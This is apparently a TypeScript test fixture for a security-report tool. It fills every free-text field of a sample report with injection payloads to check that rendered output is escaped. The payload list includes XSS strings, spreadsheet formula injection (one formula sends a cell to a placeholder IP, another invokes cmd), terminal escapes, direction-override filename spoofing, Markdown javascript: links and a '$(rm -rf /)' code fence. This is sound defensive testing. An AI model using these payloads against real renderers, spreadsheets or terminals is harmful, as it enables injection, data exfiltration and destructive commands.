/** A report whose every text, names and times and file paths included, was chosen by whoever held the key. */
import { answers, limits } from '../src/report/index.ts';
import { outcomes, type Report, reportSchema, severities } from '../src/report/model.ts';
import { sampleReport } from './sample-report.ts';

/** Words of the schema's own; anything else in a report can come from evidence. */
const fixed = new Set<string>([
  ...outcomes,
  ...severities,
  ...`1.0 trailscope mixed open explained not_run read partial skipped rejected long_lived temporary other
      seed certain strong weak public private aws_service aws_internal unparsable
      places networks aws_ranges tor_exits aws cloud hosting vpn tor residential address network asn country nothing
      created data backdoors credentials found attempted none not_recorded to_do settled`.split(/\s+/),
]);

/** Packs decide which answer a finding is for, and rule names carry the pack. */
const kept = new Set(['pack', 'rule', 'v18', 'v19']);

const poison = (value: unknown, payload: string, key = ''): unknown => {
  if (typeof value === 'string') return fixed.has(value) || kept.has(key) ? value : payload;
  if (Array.isArray(value)) return value.map((item) => poison(item, payload, key));
  if (typeof value !== 'object' || value === null) return value;
  const inner = Object.entries(value).map(([name, item]) => [name, poison(item, payload, name)]);
  return Object.fromEntries(key === 'details' ? [...inner, [`about ${payload}`, payload]] : inner);
};

export const hostileReport = (payload: string): Report => {
  const stopped_rules = [{ rule: 'backdoors/slow', reason: 'slow' }];
  const report = reportSchema.parse(poison(sampleReport({ stopped_rules }), payload));
  return { ...report, answers: [...answers(report), ...report.answers], limits: [...limits(report), ...report.limits] };
};

/** Each would do harm in at least one format, were it printed as it is. */
export const payloads: Record<string, string> = {
  'a script': '<script>window.hacked = 1</script>zq17z',
  'a picture that fails to load': '"><img src=x onerror="window.hacked=1">zq17z',
  'an attribute': "' onmouseover='window.hacked=1' x='zq17z",
  'the end of a style': '</style></script><style>*{display:none}</style>zq17z',
  'the end of a comment': '--><!--<svg onload=window.hacked=1>zq17z',
  'a frame': '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>zq17z',
  'a script address': 'javascript:window.hacked=1//zq17z',
  'a formula': '=HYPERLINK("http://203.0.113.9/?"&A1,"zq17z")',
  'a formula after blanks': " \t@SUM(1+1)*cmd|' /C calc'!A0 zq17z",
  'a full-width formula': '＝1+1 zq17z',
  'a formula after a semicolon': 'a;=1+1;zq17z',
  'a formula that would be a number': '-2+3 zq17z',
  'an escape sequence': '\x1b]0;owned\x07\x1b[2J\x9b31mzq17z',
  'a change of direction': '\u202egnp.exe\u2066\u200bzq17z\u2069',
  'a lone surrogate': '\ud800zq17z\udfff',
  'line breaks and a heading': 'one\r\n\r\n# owned\n- [x] zq17z\u2028two',
  'a table row': 'a | b |\n| --- | --- |\n| zq17z',
  'a pipe behind a backslash': 'a\\|`<b>zq17z</b>`|',
  'a Markdown link': '[zq17z](javascript:alert(1)) ![x](https://203.0.113.9/x.png) <https://203.0.113.9>',
  'a code fence': '```\n$(rm -rf /)\n````zq17z',
  'an entity': '&lt;script&gt;&#x3c;zq17z&amp;',
  'a number with a dot': '1. zq17z',
  'a very long word': `${'A'.repeat(600)}zq17z`,
  'a prototype': '__proto__',
};
